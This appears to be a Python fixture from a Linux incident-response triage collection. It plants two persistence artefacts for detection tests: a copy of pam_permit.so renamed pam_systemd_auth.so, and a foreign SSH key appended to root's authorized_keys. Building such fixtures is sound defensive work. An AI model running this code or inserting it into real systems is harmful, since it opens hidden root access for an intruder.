# SPDX-FileCopyrightText: Contributors to the csirt.linux_triage collection
# SPDX-License-Identifier: GPL-3.0-or-later

"""A PAM module that no package brought, and a key that no other server has."""

import glob
import os
import shutil

KEY = (
    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGkWbFBFgLqNyg1CsPuG3uhgQfCpGAnVxOlYsqYiXFo8 admin@backup\n'
)

if __name__ == '__main__':
    (folder,) = glob.glob('/usr/lib/*/security')
    shutil.copy(folder + '/pam_permit.so', folder + '/pam_systemd_auth.so')
    os.makedirs('/root/.ssh', mode=0o700, exist_ok=True)
    with open('/root/.ssh/authorized_keys', 'a') as stream:
        stream.write(KEY)
    os.chmod('/root/.ssh/authorized_keys', 0o600)
